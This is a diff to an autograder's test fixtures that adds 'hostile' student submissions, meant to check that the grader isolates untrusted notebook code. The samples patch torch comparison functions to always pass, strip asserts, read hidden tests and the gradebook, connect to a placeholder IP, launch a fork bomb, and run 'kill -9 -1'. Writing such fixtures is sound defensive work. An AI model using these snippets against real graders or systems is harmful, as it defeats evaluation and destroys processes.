@@ -63,7 +63,7 @@ class Expected:
 
     Attributes:
         student: The student's id.
-        kind: right, partly right, alternative, blank, late or mangled.
+        kind: right, partly right, alternative, blank, late, mangled or hostile.
         about: What was handed in, in a few words.
         points: Points by test; None if the submission can't be graded and needs review.
         score: The sum of the points; None if the submission needs review.
@@ -190,6 +190,67 @@ def nothing(notebook: NotebookNode) -> str:
     return ""
 
 
+def hostile(
+    about: str,
+    code: str,
+    loses: tuple[str, ...] = (),
+    *,
+    check: str = "",
+    at: str = "tanh_backward",
+) -> Submission:
+    """A row whose solution cell `at` begins with an attack. Only an isolating grader may run it."""
+
+    def save(notebook: NotebookNode) -> str:
+        solution = cell(notebook, at)
+        solution.source = f"{code}\n\n\n{solution.source}"
+        return write(notebook)
+
+    checks = (check,) if check else ()
+    return Submission("hostile", about, checks, loses=loses, save=save, stock=False)
+
+
+LAST = "repaired_backward"  # what raises here costs this task's test, and no other
+HOSTILE = (
+    hostile(
+        "patches torch.isclose, allclose and equal",
+        "torch.allclose = torch.equal = lambda *a, **k: True\n"
+        "torch.isclose = lambda x, *a, **k: torch.ones_like(x, dtype=torch.bool)",
+        ("test_max_pool_backward",),
+        check="pool_rewards_every_tie",
+    ),
+    hostile(
+        "drops the assert from every test",
+        "class Drop(ast.NodeTransformer):\n"
+        "    def visit_Assert(self, node):\n"
+        "        return ast.copy_location(ast.Pass(), node)\n"
+        "get_ipython().ast_transformers.append(Drop())",
+        ("test_numerical_gradient",),
+        check="difference_one_sided",
+    ),
+    hostile(
+        "reads the hidden tests and the gradebook",
+        "from pathlib import Path\n"
+        f"files = [*Path({str(ROOT)!r}).rglob('{ASSIGNMENT}.ipynb')]\n"
+        f"files += Path({str(ROOT)!r}).rglob('gradebook.db')\n"
+        "print(files[0].read_bytes())",
+        ("test_repaired_backward",),
+        at=LAST,
+    ),
+    hostile(
+        "sends data over the network",
+        "import socket\nsocket.create_connection(('192.0.2.1', 80), timeout=5)",
+        ("test_repaired_backward",),
+        at=LAST,
+    ),
+    hostile(
+        "a fork bomb",
+        "import os, time\nwhile True:\n    if os.fork() == 0:\n        time.sleep(600)",
+        ("test_repaired_backward",),
+        at=LAST,
+    ),
+    hostile("kills every process that it can", "import os\nos.system('kill -9 -1')"),
+)
+
 CLASS = (
     Submission("right", "solves everything"),
     Submission("right", "solves everything, with cells of notes between", save=with_notes),
@@ -274,6 +335,7 @@ CLASS = (
     Submission("mangled", "cut short: not JSON", save=cut_short, review=True, stock=False),
     Submission("mangled", "an empty file", save=nothing, review=True, stock=False),
     Submission("mangled", "renamed the notebook", name="ps5.ipynb", review=True, stock=False),
+    *HOSTILE,
 )
 
 
